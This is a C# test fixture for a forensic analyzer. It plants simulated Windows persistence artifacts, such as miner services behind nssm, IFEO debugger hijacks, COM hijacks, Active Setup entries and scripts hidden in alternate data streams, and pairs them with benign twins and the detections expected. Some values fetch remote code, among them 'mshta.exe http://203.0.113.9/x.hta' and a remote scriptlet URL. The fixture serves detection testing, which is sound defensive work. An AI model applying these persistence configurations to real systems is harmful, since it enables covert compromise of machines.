using System.Text;
using Forensics.Analyzer.Risk;
using Forensics.Parsers.Tests.Formats.Registry;
using static Forensics.Analyzer.Tests.Detection.WindowsBaseHost;
using static Forensics.Analyzer.Tests.Detection.WindowsStockHives;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>Services in depth, execution options and the smaller places of the machine's hives.</summary>
internal static class WindowsMachinePlants
{
    private const string Vendor = "/ProgramData/Vendor/host.exe";
    private const string Dll = "/ProgramData/Vendor/host.dll";
    private const string Nssm = "/Program Files/nssm/nssm.exe";
    private const string Sessions = Set + @"Control\Session Manager";

    private const string OfWindows = "{A6BA00FE-40E8-477C-B713-C64A14F18ADB}";
    private const string UserDll = "/Users/alice/AppData/Roaming/Sync/sync.dll";

    private static readonly PlantedPe s_miner = WindowsTaskPlants.Miner;
    private static readonly PlantedPe s_signed = new() { Seed = "vendor", IsSigned = true };

    public static IReadOnlyList<Plant> All { get; } =
    [
        .. new Plant[]
        {
            new("W-SERVICE", "quiet-wrapped-miner", PlantKind.Quiet, tree => Hives(tree.Pe(Nssm).Pe(Vendor, s_miner), hive => Wrapper(hive, "Vendor Agent", @"C:\ProgramData\Vendor\host.exe", "-s"))) { AtLeast = Severity.Critical, Entries = [SystemFile] },
            new("W-SERVICE", "quiet-wrapped-miner-in-its-folder", PlantKind.Quiet, tree => Hives(tree.Pe("/Windows/srvany.exe").Pe(Vendor, s_miner), hive => Service(hive, "Vendor Agent", @"C:\Windows\srvany.exe").Key("Parameters").Text("Application", "host.exe").Text("AppDirectory", @"C:\ProgramData\Vendor"))) { AtLeast = Severity.Critical, Entries = [SystemFile] },
            new("W-SERVICE", "dormant-wrapped-miner", PlantKind.Dormant, tree => Hives(tree.Pe(Nssm).Pe(Vendor, s_miner), hive => Wrapper(hive, "Vendor Agent", @"C:\ProgramData\Vendor\host.exe", "-s", start: 4))) { TwinOf = "quiet-wrapped-miner" },
            new("W-SERVICE", "benign-wrapped-program", PlantKind.Benign, tree => Hives(tree.Pe(Nssm).Pe("/Program Files/nodejs/node.exe", s_signed), hive => Wrapper(hive, "web", @"C:\Program Files\nodejs\node.exe", "C:\\Program Files\\web\\server.js"))),
            new("W-SERVICE", "quiet-hidden", PlantKind.Quiet, tree => Hives(tree.Pe("/Program Files/Vendor/agent.exe", s_signed), hive => Service(hive, "VendorAgent", @"C:\Program Files\Vendor\agent.exe").Key("Security").Binary("Security", Descriptor(denied: true)))) { Rule = "hidden", Entries = [SystemFile] },
            new("W-SERVICE", "benign-descriptor", PlantKind.Benign, tree => Hives(tree.Pe("/Program Files/Vendor/agent.exe", s_signed), hive => Service(hive, "VendorAgent", @"C:\Program Files\Vendor\agent.exe").Key("Security").Binary("Security", Descriptor(denied: false)))),
            new("W-SERVICE", "loud-failure-command", PlantKind.Loud, tree => Hives(tree.Pe("/Program Files/Vendor/agent.exe", s_signed), hive => Service(hive, "VendorAgent", @"C:\Program Files\Vendor\agent.exe").Text("FailureCommand", @"mshta.exe http://203.0.113.9/x.hta"))) { Rule = "failure-command", AtLeast = Severity.Medium },
            new("W-SERVICE", "loud-own-share", PlantKind.Loud, tree => Hives(tree, hive => Service(hive, "qwrtzupk", @"\\127.0.0.1\ADMIN$\qwrtzupk.exe", start: 3))) { Rule = "own-share" },
            new("W-SERVICE", "quiet-unsigned-agent", PlantKind.Quiet, tree => Hives(tree.Pe(Vendor), hive => Service(hive, "VendorHost", @"C:\ProgramData\Vendor\host.exe"))) { Rule = "target-weak-signs", AtLeast = Severity.Low, Entries = [SystemFile] },
            new("W-SERVICE", "benign-signed-agent", PlantKind.Benign, tree => Hives(tree.Pe(Vendor, s_signed), hive => Service(hive, "VendorHost", @"C:\ProgramData\Vendor\host.exe"))),
            new("W-SERVICE", "quiet-miner-driver", PlantKind.Quiet, tree => Hives(tree.Pe("/Users/Public/WinRing0x64.sys", s_signed), hive => Service(hive, "WinRing0_1_2_0", @"\??\C:\Users\Public\WinRing0x64.sys", start: 3, type: 1))) { Rule = "miner-driver", AtLeast = Severity.Medium, Entries = [SystemFile] },
            new("W-SERVICE", "benign-fan-control", PlantKind.Benign, tree => Hives(tree.Pe("/Program Files (x86)/FanControl/WinRing0x64.sys", s_signed), hive => Service(hive, "WinRing0_1_2_0", @"\??\C:\Program Files (x86)\FanControl\WinRing0x64.sys", start: 3, type: 1))),
            new("W-IFEO", "dormant-miner-on-exit", PlantKind.Dormant, tree => Hives(tree.Pe(Vendor, s_miner), software: hive => hive.Key(Nt + @"SilentProcessExit\notepad.exe").Text("MonitorProcess", @"C:\ProgramData\Vendor\host.exe").Number("ReportingMode", 1))) { TwinOf = "quiet-miner-on-exit" },
            new("W-IFEO", "quiet-debugger-by-path", PlantKind.Quiet, tree => Hives(tree.Pe(Vendor), software: hive => Filter(hive, useFilter: 1))) { Rule = "debugger", Entries = [Software] },
            new("W-IFEO", "dormant-debugger-by-path", PlantKind.Dormant, tree => Hives(tree.Pe(Vendor), software: hive => Filter(hive, useFilter: 0))) { TwinOf = "quiet-debugger-by-path" },
            new("W-IFEO", "benign-dump-on-exit", PlantKind.Benign, tree => Hives(tree, software: hive => { hive.Key(Nt + @"SilentProcessExit\w3wp.exe").Number("ReportingMode", 2).Text("LocalDumpFolder", @"C:\Dumps"); hive.Key(Nt + @"Image File Execution Options\w3wp.exe").Number("GlobalFlag", 0x200); })),
            new("W-SESSMGR", "quiet-boot-verification", PlantKind.Quiet, tree => Hives(tree.Pe("/Windows/System32/bootchk.exe", s_miner), hive => hive.Key(Set + @"Control\BootVerificationProgram").Expandable("ImagePath", @"%SystemRoot%\System32\bootchk.exe"))) { Rule = "target-known-malware", Entries = [SystemFile] },
            new("W-SESSMGR", "loud-rename-into-startup", PlantKind.Loud, tree => Hives(tree, hive => hive.Key(Sessions).Texts("PendingFileRenameOperations", @"\??\C:\Windows\Temp\a.tmp", @"!\??\C:\ProgramData\Microsoft\Windows\Start Menu\Programs\Startup\a.exe"))) { Rule = "non-default" },
            new("W-SESSMGR", "benign-rename", PlantKind.Benign, tree => Hives(tree, hive => hive.Key(Sessions).Texts("PendingFileRenameOperations", @"\??\C:\Program Files\Vendor\agent.new", @"!\??\C:\Program Files\Vendor\agent.exe", @"\??\C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.1\MsMpEng.exe"))),
            new("W-PRINT", "quiet-winsock-provider", PlantKind.Quiet, tree => Hives(tree.Pe(Dll), hive => hive.Key(Set + @"Services\WinSock2\Parameters\Protocol_Catalog9\Catalog_Entries64\000000000001").Binary("PackedCatalogItem", Packed(@"C:\ProgramData\Vendor\host.dll")))) { Rule = "foreign", Entries = [SystemFile] },
            new("W-PRINT", "benign-winsock-provider", PlantKind.Benign, tree => Hives(tree.Pe("/Windows/System32/mswsock.dll", s_signed), hive =>
            {
                hive.Key(Set + @"Services\WinSock2\Parameters\Protocol_Catalog9\Catalog_Entries64\000000000001").Binary("PackedCatalogItem", Packed(@"%SystemRoot%\system32\mswsock.dll"));
                hive.Key(Set + @"Services\WinSock2\Parameters\NameSpace_Catalog5\Catalog_Entries64\000000000001").Expandable("LibraryPath", @"%SystemRoot%\System32\mswsock.dll");
            })),
            new("W-ASSOC", "quiet-tool-of-drives", PlantKind.Quiet, tree => Hives(tree.Pe(Vendor), software: hive => hive.Key(Cv + @"Explorer\MyComputer\cleanuppath").Expandable("", @"C:\ProgramData\Vendor\host.exe /D %c"))) { Rule = "non-default", AtLeast = Severity.Medium, Entries = [Software] },
            new("W-ASSOC", "quiet-aid-of-logon-screen", PlantKind.Quiet, tree => Hives(tree.Pe(Vendor), software: hive => hive.Key(Nt + @"Accessibility\ATs\reader").Text("StartExe", @"C:\ProgramData\Vendor\host.exe"))) { Rule = "non-default", Entries = [Software] },
            new("W-ASSOC", "quiet-active-setup", PlantKind.Quiet, tree => Hives(tree.Pe(Vendor), software: hive => hive.Key(@"Microsoft\Active Setup\Installed Components\{11111111-2222-3333-4444-555555555555}").Text("StubPath", @"C:\ProgramData\Vendor\host.exe"))) { Rule = "non-default", AtLeast = Severity.Medium, Entries = [Software] },
            new("W-ASSOC", "quiet-compatibility-database", PlantKind.Quiet, tree => Hives(tree, software: hive => hive.Key(Nt + @"AppCompatFlags\InstalledSDB\{11111111-2222-3333-4444-555555555555}").Text("DatabasePath", @"C:\ProgramData\Vendor\fix.sdb"))) { Rule = "non-default", AtLeast = Severity.Medium, Entries = [Software] },
            new("W-ASSOC", "benign-tools", PlantKind.Benign, tree => Hives(tree.Pe("/Program Files/Google/Chrome/Application/120/Installer/chrmstp.exe", s_signed), software: hive =>
            {
                hive.Key(Cv + @"Explorer\MyComputer\cleanuppath").Expandable("", @"%SystemRoot%\System32\cleanmgr.exe /D %c");
                hive.Key(Nt + @"Accessibility\ATs\magnifierpane").Expandable("StartExe", @"%SystemRoot%\System32\Magnify.exe");
                hive.Key(@"Microsoft\Active Setup\Installed Components\{8A69D345-D564-463c-AFF1-A69D9E530F96}").Text("StubPath", "\"C:\\Program Files\\Google\\Chrome\\Application\\120\\Installer\\chrmstp.exe\" --configure-user-settings --verbose-logging");
                hive.Key(@"Microsoft\Active Setup\Installed Components\{2C7339CF-2B09-4501-B3F3-F3508C9228ED}").Expandable("StubPath", @"%SystemRoot%\system32\regsvr32.exe /s /n /i:/UserInstall %SystemRoot%\system32\themeui.dll");
                hive.Key(Nt + @"AppCompatFlags\InstalledSDB\{11111111-2222-3333-4444-555555555555}").Text("DatabasePath", @"C:\Windows\AppPatch\Custom\{11111111-2222-3333-4444-555555555555}.sdb");
            })),
            new("W-COM", "quiet-shadows-machine", PlantKind.Quiet, tree => Hives(tree.Pe(UserDll), software: Own, classes: hive => hive.Key($@"CLSID\{OfWindows}\InprocServer32").Text("", @"C:\Users\alice\AppData\Roaming\Sync\sync.dll"))) { Rule = "shadowed-class", Entries = [Classes] },
            new("W-COM", "loud-treat-as", PlantKind.Loud, tree => Hives(tree.Pe(UserDll), software: Own, classes: hive => hive.Key($@"CLSID\{OfWindows}\TreatAs").Text("", "{11111111-2222-3333-4444-555555555555}"))) { Rule = "shadowed-class" },
            new("W-COM", "quiet-server-in-odd-place", PlantKind.Quiet, tree => Hives(tree.Pe("/Users/Public/ext.dll"), software: hive => hive.Key(@"Classes\CLSID\{11111111-2222-3333-4444-555555555555}\InprocServer32").Text("", @"C:\Users\Public\ext.dll"))) { Rule = "foreign-server", Entries = [Software] },
            new("W-COM", "quiet-assembly-in-odd-place", PlantKind.Quiet, tree => Hives(tree.Pe("/Users/Public/ext.dll"), software: hive => hive.Key(@"Classes\CLSID\{11111111-2222-3333-4444-555555555555}\InprocServer32").Text("", "mscoree.dll").Text("CodeBase", "file:///C:/Users/Public/ext.dll"))) { Rule = "foreign-server", Entries = [Software] },
            new("W-COM", "loud-scriptlet-of-machine", PlantKind.Loud, tree => Hives(tree, software: hive => { hive.Key(@"Classes\CLSID\{11111111-2222-3333-4444-555555555555}\InprocServer32").Text("", @"C:\Windows\System32\scrobj.dll"); hive.Key(@"Classes\CLSID\{11111111-2222-3333-4444-555555555555}\ScriptletURL").Text("", "http://203.0.113.9/x.sct"); })) { Rule = "scriptlet" },
            new("W-COM", "benign-vendors-both-ways", PlantKind.Benign, tree => Hives(tree.Pe("/Users/alice/AppData/Local/Zoom/zoom.dll", s_signed).Pe("/ProgramData/Microsoft/Windows Defender/Platform/4.18.1/MpOav.dll", s_signed), software: hive =>
            {
                Own(hive);
                hive.Key(@"Classes\CLSID\{22222222-2222-3333-4444-555555555555}\InprocServer32").Text("", @"C:\Program Files\Zoom\zoom.dll");
                hive.Key(@"Classes\CLSID\{2781761E-28E0-4109-99FE-B9D127C57AFE}\InprocServer32").Text("", "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.1\\MpOav.dll\"");
                hive.Key(@"Classes\CLSID\{33333333-2222-3333-4444-555555555555}\LocalServer32").Expandable("", @"%SystemRoot%\System32\rundll32.exe /sta {33333333-2222-3333-4444-555555555555}");
            }, classes: hive => hive.Key(@"CLSID\{22222222-2222-3333-4444-555555555555}\InprocServer32").Text("", @"C:\Users\alice\AppData\Local\Zoom\zoom.dll"))),
            new("W-TASK", "quiet-class-of-miner", PlantKind.Quiet, tree => Hives(Task(tree.Pe(Dll, s_miner), "Sync", Handler, principal: "S-1-5-18"), software: hive => hive.Key($@"Classes\CLSID\{OfWindows}\InprocServer32").Text("", @"C:\ProgramData\Vendor\host.dll"))) { AtLeast = Severity.Critical, Entries = ["/Windows/System32/Tasks/Sync"] },
            new("W-TASK", "quiet-class-of-user", PlantKind.Quiet, tree => Hives(Task(tree.Pe(UserDll, s_miner), "Sync", Handler, principal: @"WS01\alice"), software: Own, classes: hive => hive.Key($@"CLSID\{OfWindows}\InprocServer32").Text("", @"C:\Users\alice\AppData\Roaming\Sync\sync.dll"))) { AtLeast = Severity.Critical, Entries = ["/Windows/System32/Tasks/Sync"] },
            new("W-TASK", "benign-class-of-windows", PlantKind.Benign, tree => Hives(Task(tree, "Sync", Handler, principal: "S-1-5-18"), software: Own)),
            new("W-TASK", "loud-stream-with-script", PlantKind.Loud, tree => Task(tree.File("/ProgramData/readme.txt", "read me").File("/ProgramData/readme.txt:run.vbs", "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"C:\\ProgramData\\Vendor\\host.exe\"\r\n").Pe(Vendor, s_miner), "Notes", Exec("wscript.exe", @"C:\ProgramData\readme.txt:run.vbs"))) { Rule = "target-odd-place" },
            new("W-TASK", "loud-miner-behind-stream", PlantKind.Loud, tree => Task(tree.File("/ProgramData/readme.txt", "read me").File("/ProgramData/readme.txt:run.cmd", "@echo off\r\nC:\\ProgramData\\Vendor\\host.exe -s\r\n").Pe(Vendor, s_miner), "Notes", Exec("cmd.exe", @"/c C:\ProgramData\readme.txt:run.cmd"))) { AtLeast = Severity.Critical },
        }.Select(plant => plant with { Host = PlantHost.Windows }),
    ];

    private static string Handler => $"<ComHandler><ClassId>{OfWindows}</ClassId></ComHandler>";

    private static void Own(RegistryHiveWriter hive) => hive.Key($@"Classes\CLSID\{OfWindows}\InprocServer32").Expandable("", @"%SystemRoot%\system32\shell32.dll");

    private static void Wrapper(RegistryHiveWriter hive, string name, string application, string arguments, uint start = 2) =>
        Service(hive, name, @"C:\Program Files\nssm\nssm.exe", start).Key("Parameters").Expandable("Application", application).Expandable("AppParameters", arguments).Expandable("AppDirectory", application[..application.LastIndexOf('\\')]);

    private static void Filter(RegistryHiveWriter hive, uint useFilter)
    {
        WrittenKey options = hive.Key(Nt + @"Image File Execution Options\notepad.exe").Number("UseFilter", useFilter);
        options.Key("0").Text("FilterFullPath", @"C:\Windows\System32\notepad.exe").Text("Debugger", @"C:\ProgramData\Vendor\host.exe");
    }

    // The path in MAX_PATH bytes, then WSAPROTOCOL_INFOW.
    private static byte[] Packed(string path)
    {
        byte[] item = new byte[260 + 628];
        Encoding.ASCII.GetBytes(path).CopyTo(item, 0);
        return item;
    }

    // Self-relative, one entry about BUILTIN\\Administrators: [MS-DTYP] 2.4.6.
    private static byte[] Descriptor(bool denied) =>
    [
        1, 0, 4, 0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 20, 0, 0, 0,
        2, 0, 32, 0, 1, 0, 0, 0,
        (byte)(denied ? 1 : 0), 0, 24, 0, 0xFF, 1, 0xF, 0, 1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 0x20, 2, 0, 0,
    ];
}
